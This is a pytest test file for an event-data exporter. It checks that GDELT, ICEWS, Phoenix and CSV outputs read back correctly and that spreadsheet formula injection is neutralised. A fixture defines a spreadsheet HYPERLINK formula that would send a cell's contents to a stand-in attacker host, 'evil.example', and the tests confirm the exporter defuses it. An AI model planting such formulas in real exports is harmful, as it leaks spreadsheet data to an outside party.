"""Exports read back with what their users read them with: codes as text, days as days, nothing that is not known."""

import csv
import io
from pathlib import Path
from typing import Any

import duckdb
import pandas as pd
import polars as pl
import pytest
from polars.testing import assert_frame_equal
from synthetic import frames, write_dataset

from eventcoder.cli import export as command
from eventcoder.cli.main import main
from eventcoder.ontology import lookup
from eventcoder.quality.columns import stated_types
from eventcoder.write import gdelt, icews, phoenix
from eventcoder.write.export import FORMATS, export

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
TEXT_CODES = {"EventCode": str, "EventBaseCode": str, "EventRootCode": str}


def _awkward(events: pl.DataFrame, read: pl.DataFrame, dropped: pl.DataFrame) -> Any:
    """Rows that go wrong easily: a repeated mention, no date, a month, a formula, a code without country."""
    rows = events.to_dicts()
    rows[1]["duplicate_of"] = rows[0]["event_id"]
    rows[0]["report_count"] = 2
    rows[2].update(event_date=None, event_date_end=None, date_precision="unknown", date_basis=None)
    month = {"event_date": pl.date(2024, 1, 1), "event_date_end": pl.date(2024, 1, 31)}
    rows[3].update({k: pl.select(v).item() for k, v in month.items()}, date_precision="month")
    rows[4].update(place_name=FORMULA, source_name='a "tab"\tand\na line', publisher="+41 Wire", url="@evil")
    rows[4].update(source_code="---REB", source_country=None, source_sector="REB", sentence_text="'-1' they said")
    rows[5].update(place_country="USA", place_admin1="Texas", place_name="El Paso", place_precision="city")
    rows[6].update(place_country="ROU", place_admin1=None, place_name="Romania", place_precision="country")
    rows[6].update(source_code="ROUGOVMIL", source_country="ROU", source_sector="GOV", target_code=None)
    return pl.DataFrame(rows, schema=events.schema), read, dropped


@pytest.fixture(scope="module")
def dataset(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_dataset(tmp_path_factory.mktemp("export") / "events", 40, mend=_awkward)


@pytest.fixture(scope="module")
def events(dataset: Path) -> pl.DataFrame:
    return pl.read_parquet(dataset / "events.parquet")


def _exported(dataset: Path, form: str, *more: str) -> Path:
    path = dataset.parent / f"{form}{''.join(more)}.txt"
    with pytest.raises(SystemExit) as ended:
        main(["export", str(dataset), "--format", form, "-o", str(path), *more])
    assert not ended.value.code
    return path


def test_the_command_knows_every_format() -> None:
    assert set(command.FORMATS) == set(FORMATS)


def test_gdelt_is_read_with_pandas_as_gdelt_is(dataset: Path, events: pl.DataFrame) -> None:
    table = pd.read_csv(
        _exported(dataset, "gdelt"), sep="\t", header=None, names=gdelt.columns(), dtype=TEXT_CODES, index_col=False
    )
    once = events.filter(pl.col("duplicate_of").is_null())
    assert table.shape == (once.height, 61)
    assert table["EventCode"].tolist() == once["event_code"].to_list()
    assert table["EventRootCode"].tolist() == once["event_root"].to_list()
    assert set(table["EventBaseCode"].str.len()) == {3}
    assert table["GoldsteinScale"].tolist() == once["goldstein"].to_list()
    assert table["GLOBALEVENTID"].tolist() == [int(i[:15], 16) for i in once["event_id"]]
    assert table["NumArticles"].tolist() == once["report_count"].to_list()
    days = pd.to_datetime(table["SQLDATE"].astype("Int64").astype("string"), format="%Y%m%d")
    known = once["event_date"].is_not_null() & (once["date_precision"] == "day")
    assert days.notna().tolist() == known.to_list()
    assert days[0].date() == once["event_date"][0]
    assert table["DATEADDED"].astype(str)[0] == once["published"][0].strftime("%Y%m%d000000")


def test_gdelt_fields_by_name(dataset: Path, events: pl.DataFrame) -> None:
    rows = {r["GLOBALEVENTID"]: r for r in _rows(_exported(dataset, "gdelt"), "\t", gdelt.columns())}

    def row(number: int) -> dict[str, str]:
        return rows[str(int(events["event_id"][number][:15], 16))]

    undated, month, rebel, texan, romanian = (row(n) for n in (2, 3, 4, 5, 6))
    assert [undated[c] for c in ("SQLDATE", "MonthYear", "Year", "FractionDate")] == [""] * 4
    assert [month[c] for c in ("SQLDATE", "MonthYear", "Year", "FractionDate")] == ["", "202401", "2024", ""]
    assert (rebel["Actor1Code"], rebel["Actor1CountryCode"], rebel["Actor1Type1Code"]) == ("REB", "", "REB")
    assert rebel["Actor1Name"] == "A 'TAB' AND A LINE"
    assert rebel["SOURCEURL"] == "'@evil"
    assert [texan[f"ActionGeo_{c}"] for c in ("Type", "Fullname", "CountryCode", "ADM1Code")] == [
        "3",
        "El Paso, Texas, United States",
        "US",
        "USTX",
    ]
    assert [romanian[f"ActionGeo_{c}"] for c in ("Type", "Fullname", "CountryCode", "FeatureID")] == [
        "1",
        "Romania",
        "RO",
        "RO",
    ]
    assert [romanian[f"Actor1{c}"] for c in ("Code", "CountryCode", "Type1Code", "Type2Code")] == [
        "ROMGOVMIL",
        "ROM",
        "GOV",
        "MIL",
    ]
    body = next(r for r in rows.values() if r["Actor1Code"] == "IGOUNO")
    assert (body["Actor1KnownGroupCode"], body["Actor1Type1Code"], body["Actor1CountryCode"]) == ("UNO", "IGO", "")


def test_gdelts_fraction_of_the_year_is_gdelts() -> None:
    frame = frames(1)[0].lazy().with_columns(event_date=pl.date(2015, 2, 18))
    assert gdelt.table(frame).collect()["FractionDate"].item() == 2015.1315  # as in GDELT's own file of that day


def test_icews_is_read_with_pandas(dataset: Path, events: pl.DataFrame) -> None:
    table = pd.read_csv(
        _exported(dataset, "icews"), sep="\t", dtype={"CAMEO Code": str, "Story ID": str}, parse_dates=["Event Date"]
    )
    once = events.filter(pl.col("duplicate_of").is_null())
    assert tuple(table.columns) == icews.columns()
    assert table["CAMEO Code"].tolist() == once["event_code"].to_list()
    assert table["Intensity"].tolist() == once["goldstein"].to_list()
    assert (table["Sentence Number"] - 1).tolist() == once["sentence"].to_list()
    assert table["Event Date"][0].date() == once["event_date"][0]
    assert table["Source Country"][0] == "Norway"
    assert table["Source Sectors"][0] == "Government"
    assert table["Event Text"].tolist() == [lookup(code).name for code in table["CAMEO Code"]]
    assert "'+41 Wire" in table["Publisher"].tolist()


def test_phoenix_is_read_with_polars(dataset: Path, events: pl.DataFrame) -> None:
    table = pl.read_csv(_exported(dataset, "phoenix"), infer_schema=False)
    once = events.filter(pl.col("duplicate_of").is_null())
    assert tuple(table.columns) == phoenix.columns()
    assert table["EventID"].to_list() == once["event_id"].to_list()
    assert table["EventCode"].to_list() == once["event_code"].to_list()
    assert table["SourceActorFull"].to_list() == once["source_code"].to_list()
    first = table.row(0, named=True)
    assert [first[f"TargetActor{p}"] for p in ("Full", "Entity", "Role", "Attribute")] == ["COLREB", "COL", "REB", None]
    assert (first["Year"] + first["Month"] + first["Day"]) == first["Date"]
    appeal = table.filter(pl.col("EventCode") == "022")
    assert set(appeal["PentaClass"]) == {"0"}
    assert FORMULA not in table["LocationName"].to_list()


def test_csv_gives_every_value_back(dataset: Path, events: pl.DataFrame) -> None:
    path = _exported(dataset, "csv", "--duplicates")
    types = {name: kind for name, kind in stated_types().items() if name in events.columns}
    back = pl.read_csv(path, schema_overrides=types)
    bare = [pl.col(c).str.replace(r"^'('*[\s]*[=+\-@])", "$1") for c, kind in types.items() if kind == pl.String]
    wanted = events.with_columns(pl.col(c).cast(kind) for c, kind in types.items())
    assert_frame_equal(back.with_columns(bare), wanted)


def test_csv_runs_no_formula_and_keeps_codes(dataset: Path) -> None:
    rows = list(csv.DictReader(io.StringIO(_exported(dataset, "csv").read_text(encoding="utf-8"))))
    assert any(r["source_code"] == "---REB" for r in rows)
    assert any(r["place_name"] == "'" + FORMULA for r in rows)
    codes = ("source_code", "target_code", "attributed_to_code")
    numbers = [c for c, kind in stated_types().items() if kind != pl.String]
    for row in rows:
        for name, value in row.items():
            assert name in codes or name in numbers or not value.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("form", sorted(FORMATS))
def test_duckdb_reads_each(dataset: Path, events: pl.DataFrame, form: str) -> None:
    layout = FORMATS[form]
    table = duckdb.read_csv(
        str(_exported(dataset, form)),
        sep=layout.separator,
        header=layout.header,
        all_varchar=True,
        quotechar="" if layout.quotes == "never" else '"',
    )
    column = {"gdelt": gdelt.columns().index("EventCode"), "icews": 6, "phoenix": 13}.get(
        form, events.columns.index("event_code")
    )
    codes = [row[column] for row in table.fetchall()]
    assert codes == events.filter(pl.col("duplicate_of").is_null())["event_code"].to_list()


@pytest.mark.parametrize("form", sorted(FORMATS))
def test_duplicates_are_kept_when_asked(dataset: Path, form: str) -> None:
    kept, left = _exported(dataset, form, "--duplicates"), _exported(dataset, form)
    assert len(kept.read_text().splitlines()) == len(left.read_text().splitlines()) + 1


def test_parts_make_the_same_file_as_the_whole(dataset: Path, events: pl.DataFrame, tmp_path: Path) -> None:
    for form in FORMATS:
        whole, parts = tmp_path / "whole", tmp_path / "parts"
        export([events], whole, form)
        export((events.slice(i, 7) for i in range(0, events.height, 7)), parts, form)
        assert whole.read_bytes() == parts.read_bytes()


def test_a_broken_export_leaves_the_old_file(events: pl.DataFrame, tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    path.write_text("old")

    def breaking() -> Any:
        yield events
        raise OSError("the disk is gone")

    with pytest.raises(OSError, match="disk"):
        export(breaking(), path, "csv")
    assert path.read_text() == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


def test_an_empty_dataset_has_its_columns(events: pl.DataFrame, tmp_path: Path) -> None:
    for form, layout in FORMATS.items():
        export([events.clear()], tmp_path / form, form)
        assert len((tmp_path / form).read_text().splitlines()) == int(layout.header)


def _rows(path: Path, separator: str, names: tuple[str, ...]) -> list[dict[str, str]]:
    lines = path.read_text(encoding="utf-8").splitlines()
    return [dict(zip(names, line.split(separator), strict=True)) for line in lines]
